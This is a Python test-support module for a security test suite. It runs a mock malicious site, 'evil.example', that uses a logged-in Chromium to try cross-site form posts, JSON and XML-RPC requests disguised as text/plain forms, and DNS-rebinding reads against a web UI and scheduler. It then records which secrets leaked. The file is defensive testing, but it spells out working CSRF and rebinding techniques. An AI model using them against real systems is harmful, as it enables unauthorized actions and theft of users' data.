"""A site that means no good, and what its pages do in the browser of who is logged in."""

import json
from collections.abc import Iterator, Mapping, Sequence
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass, field
from enum import StrEnum
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl
from xmlrpc.client import dumps

from playwright.sync_api import Browser, BrowserContext, Page, Route, sync_playwright

from tests.attack.doors import ROUTES
from tests.attack.rpc import arguments_of
from tests.attack.state import KEPT, MEMBERS_ONLY
from tests.attack.web import body_of, filled
from tests.support.chain_site import Site, SiteAnswer
from tests.support.programs import chromium as chromium_program

PORT = 8000
NAME, REBOUND = "evil.example", "rebound.evil.example"
_PAGE = Path(__file__).with_name("evil.html")
_HTML = "text/html; charset=utf-8"


@dataclass
class Evil:
    """The site.

    Attributes:
        url: of its page.
        loot: what the page could read, and hand over.
    """

    url: str
    loot: list[str] = field(default_factory=list)

    def stolen(self, secrets: Sequence[str]) -> list[str]:
        """Return which canaries and secrets the page could read."""
        return [each for each in (*MEMBERS_ONLY, *secrets) if each in "\n".join(self.loot)]


@contextmanager
def evil_site(
    there: AbstractContextManager[None], address: str, name: str, targets: Mapping[str, Any]
) -> Iterator[Evil]:
    """Serve the page.

    Args:
        there: the network to listen in.
        address: to listen on.
        name: by which browsers know it.
        targets: what the page is told to attack.
    """
    site = Evil(f"http://{name}:{PORT}/")

    class EvilPage(SiteAnswer):
        def get(self) -> None:
            told = json.dumps(targets).encode()
            self.say(told if self.path == "/targets" else _PAGE.read_bytes(), kind=_HTML)

        def post(self) -> None:
            length = int(self.headers["content-length"])
            site.loot.append(self.rfile.read(length).decode("utf-8", "replace"))
            self.say(b"", kind=_HTML)

    with there:
        server = Site(EvilPage, address, PORT)
    with server:
        yield site


def targets(web: str, schedulers: Sequence[str]) -> dict[str, list[Any]]:
    """Return what a page sends: to every route, and to every scheduler.

    Args:
        web: host and port of the web UI, as a browser there calls it.
        schedulers: the same of their XML-RPC.
    """
    posts = [post for route in ROUTES for post in _posts(f"http://{web}", route)]
    calls = [_call(f"http://{address}/RPC2") for address in schedulers]
    reads = [f"http://{web}{path}" for path in _readable()]
    forms = [form for route in ROUTES for form in _forms(f"http://{web}", route)]
    forms += [_disguised(call) for call in calls]
    return {"forms": forms, "posts": posts + calls, "reads": reads, "refreshes": reads[:3]}


def _readable() -> list[str]:
    paths = ("/debug/<project>/get", "/api/v1/projects", "/results/dump/<project>.<_format>")
    more = ("/debug/<project>", "/dav/<path:script>", "/tasks", "/cluster/projects", "/")
    return [filled(route) for route in (*paths, *more)]


def _posts(base: str, route: str) -> Iterator[dict[str, str]]:
    for method in ("POST", "PUT", "DELETE"):
        body, headers = body_of(route, method)
        if method == "POST" or "/dav/" in route or "/batches" in route:
            kind = headers.get("Content-Type", "text/plain")
            url = base + filled(route)
            yield {"url": url, "method": method, "type": kind, "body": body.decode()}


def _forms(base: str, route: str) -> Iterator[dict[str, Any]]:
    body, headers = body_of(route, "POST")
    url = base + filled(route)
    if "json" in headers.get("Content-Type", ""):
        yield _disguised({"url": url, "body": body.decode()})
        return
    fields = dict(parse_qsl(body.decode()))
    for enctype in ("application/x-www-form-urlencoded", "multipart/form-data", "text/plain"):
        yield {"url": url, "method": "post", "enctype": enctype, "fields": fields}


def _disguised(post: Mapping[str, str]) -> dict[str, Any]:
    """Return a form of plain text that sends JSON or XML: all of it is the name of a field."""
    name, _, value = post["body"].partition("=")
    fields = {name: value}
    return {"url": post["url"], "method": "post", "enctype": "text/plain", "fields": fields}


def _call(url: str) -> dict[str, str]:
    body = dumps(arguments_of("submit_operation"), "submit_operation")
    assert KEPT in body
    return {"url": url, "method": "POST", "type": "text/xml", "body": body}


STARTING = 180_000.0  # milliseconds for the browser
ANSWER = 120_000.0  # milliseconds for a page of the web UI
PATIENCE = 600_000.0  # milliseconds for a page to try everything
# What newer browsers keep from pages of other networks is not to be what saves us.
_TRUSTING = (
    "LocalNetworkAccessChecks",
    "BlockInsecurePrivateNetworkRequests",
    "PrivateNetworkAccessRespectPreflightResults",
    "HttpsUpgrades",
)


class LoginWay(StrEnum):
    """How the browser is logged in."""

    SESSION = "session"
    """By the login page; it has the cookie."""
    PASSWORD = "password"  # noqa: S105 - a kind of login
    """By HTTP Basic; it answers each challenge with the password."""


@contextmanager
def browser(evil: str, rebound: str) -> Iterator[Browser]:
    """Run a Chromium in the network that this thread is in.

    Args:
        evil: the address of the evil site.
        rebound: the address that a second name of that site leads to: the web UI's.
    """
    rules = f"MAP {NAME} {evil}, MAP {REBOUND} {rebound}, MAP [a-z]* ~NOTFOUND"
    options = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync"]
    options += ["--disable-background-networking", "--disable-component-update"]
    options += [f"--host-resolver-rules={rules}", f"--disable-features={','.join(_TRUSTING)}"]
    with sync_playwright() as playwright:
        yield playwright.chromium.launch(
            executable_path=chromium_program(), args=options, timeout=STARTING
        )


@contextmanager
def logged_in(
    chromium: Browser, web: str, login: LoginWay | None, name: str, password: str
) -> Iterator[BrowserContext]:
    """Give the profile of somebody who is logged in and looks at the web UI.

    With no login it is a web UI that needs none.
    """
    known = {"username": name, "password": password} if login is LoginWay.PASSWORD else None
    with chromium.new_context(http_credentials=known) as context:  # type: ignore[arg-type]
        context.set_default_timeout(ANSWER)
        page = context.new_page()
        if login is LoginWay.SESSION:
            page.goto(f"http://{web}/login/")
            page.fill("#name", name)
            page.fill("#password", password)
            page.click("text='Log in'")
        answer = page.goto(f"http://{web}/debug/kept")
        assert answer is not None
        assert answer.ok, "whoever is attacked must be somebody"
        yield context


def lured(context: BrowserContext, site: Evil) -> None:
    """Let somebody open the evil page, by a link, and wait until it has tried everything."""
    page = context.new_page()
    page.goto(site.url, timeout=ANSWER)
    page.wait_for_function("document.title !== 'busy'", timeout=PATIENCE)
    assert page.title() == "done"


def rebound(context: BrowserContext, port: int, posts: list[Mapping[str, str]]) -> list[str]:
    """Let a page whose name leads to the cluster by now ask as its own; return what it read.

    The name was the evil site's; to the browser, whatever answers there is of that site.
    """
    page: Page = context.new_page()
    origin = f"http://{REBOUND}:{port}"
    page.route(f"{origin}/lure", _lure)
    page.goto(f"{origin}/lure")
    told: list[str] = []
    for post in posts:
        path = "/" + post["url"].partition("://")[2].partition("/")[2]
        told.append(page.evaluate(_ASK, [origin + path, dict(post)]))
    return told


def _lure(route: Route) -> None:
    """Answer as the evil site did, while the name still led to it."""
    route.fulfill(body="<title>lure</title>", content_type="text/html")


_ASK = """async ([url, {method, type, body}]) => {
    const read = await (await fetch(url.replace("/save", "/get"))).text();
    const answer = await fetch(url, {method, body, headers: {"Content-Type": type}});
    return read + await answer.text();
}"""
